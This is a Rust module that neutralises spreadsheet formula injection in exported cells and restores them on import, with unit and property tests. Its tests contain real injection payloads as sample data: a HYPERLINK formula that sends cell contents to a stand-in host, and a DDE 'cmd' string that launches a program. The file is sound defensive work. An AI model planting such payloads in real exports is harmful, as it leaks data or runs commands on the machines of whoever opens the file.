//! Cells of tables that leave the program. A program for sheets takes what begins like a formula for one and runs it, so that whoever typed
//! it into a report acts in the office of whoever opens the file: such a cell gets an apostrophe before it, and loses it when it comes back.

use std::borrow::Cow;

/// What a cell begins with that is run, in every width.
const ACTS: &[char] =
    &['=', '+', '-', '@', '\t', '\r', '\n', '|', '%', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−', '｜', '％'];
/// What some programs pass over before they look.
const PASSED_OVER: &[char] =
    &[' ', '\u{A0}', '\u{3000}', '\u{FEFF}', '\u{200B}', '\u{200E}', '\u{200F}', '\u{202D}', '\u{202C}'];

/// A number, which stays one: a sign, digits, a point, an exponent.
fn is_number(cell: &str) -> bool {
    let plain = cell.strip_prefix(['+', '-']).unwrap_or(cell);
    plain.starts_with(|c: char| c.is_ascii_digit() || c == '.')
        && plain.chars().all(|c| c.is_ascii_digit() || ".eE+-".contains(c))
        && plain.parse::<f64>().is_ok()
}

fn acts(cell: &str) -> bool {
    cell.trim_start_matches(PASSED_OVER).starts_with(ACTS) && !is_number(cell)
}

/// A cell as it may leave. [`restored`] gives back what it was.
#[must_use]
pub fn neutral(cell: &str) -> Cow<'_, str> {
    if acts(cell.trim_start_matches('\'')) { Cow::Owned(format!("'{cell}")) } else { Cow::Borrowed(cell) }
}

/// A cell that came back, or came from a program that guards its own alike.
#[must_use]
pub fn restored(cell: &str) -> &str {
    cell.strip_prefix('\'').filter(|rest| acts(rest.trim_start_matches('\''))).unwrap_or(cell)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn what_looks_like_a_formula_is_text_and_a_number_stays_a_number() {
        for formula in [
            "=HYPERLINK(\"http://x/?\"&A1)",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "\n=1",
            "＝1+1",
            "＋1+1",
            "－1+1",
            "＠SUM(1)",
            " =1+1",
            "\u{3000}＝1",
            "\u{FEFF}=1",
            "-",
            "--5",
            "+86 138 1234 1234",
            "-3.5-2",
            "|x",
            "%0A",
        ] {
            let safe = neutral(formula);
            assert!(safe.starts_with('\''), "{formula:?} → {safe:?}");
            assert_eq!(restored(&safe), formula);
        }
        for plain in [
            "",
            "-3.5",
            "+8613812341234",
            "-1e6",
            "0.5",
            "王秀英",
            "3-2-501",
            "a=b",
            "'",
            "it's",
            "'x",
            "51011701900600901",
        ] {
            assert_eq!(neutral(plain), plain);
            assert_eq!(restored(plain), plain);
        }
    }

    proptest! {
        #[test]
        fn what_leaves_never_acts_and_comes_back_as_it_was(cell in "['=+@\\- \t\u{3000}＝a1.e]{0,6}|.{0,12}") {
            let safe = neutral(&cell);
            prop_assert!(!acts(&safe));
            prop_assert_eq!(restored(&safe), cell.as_str());
        }
    }
}
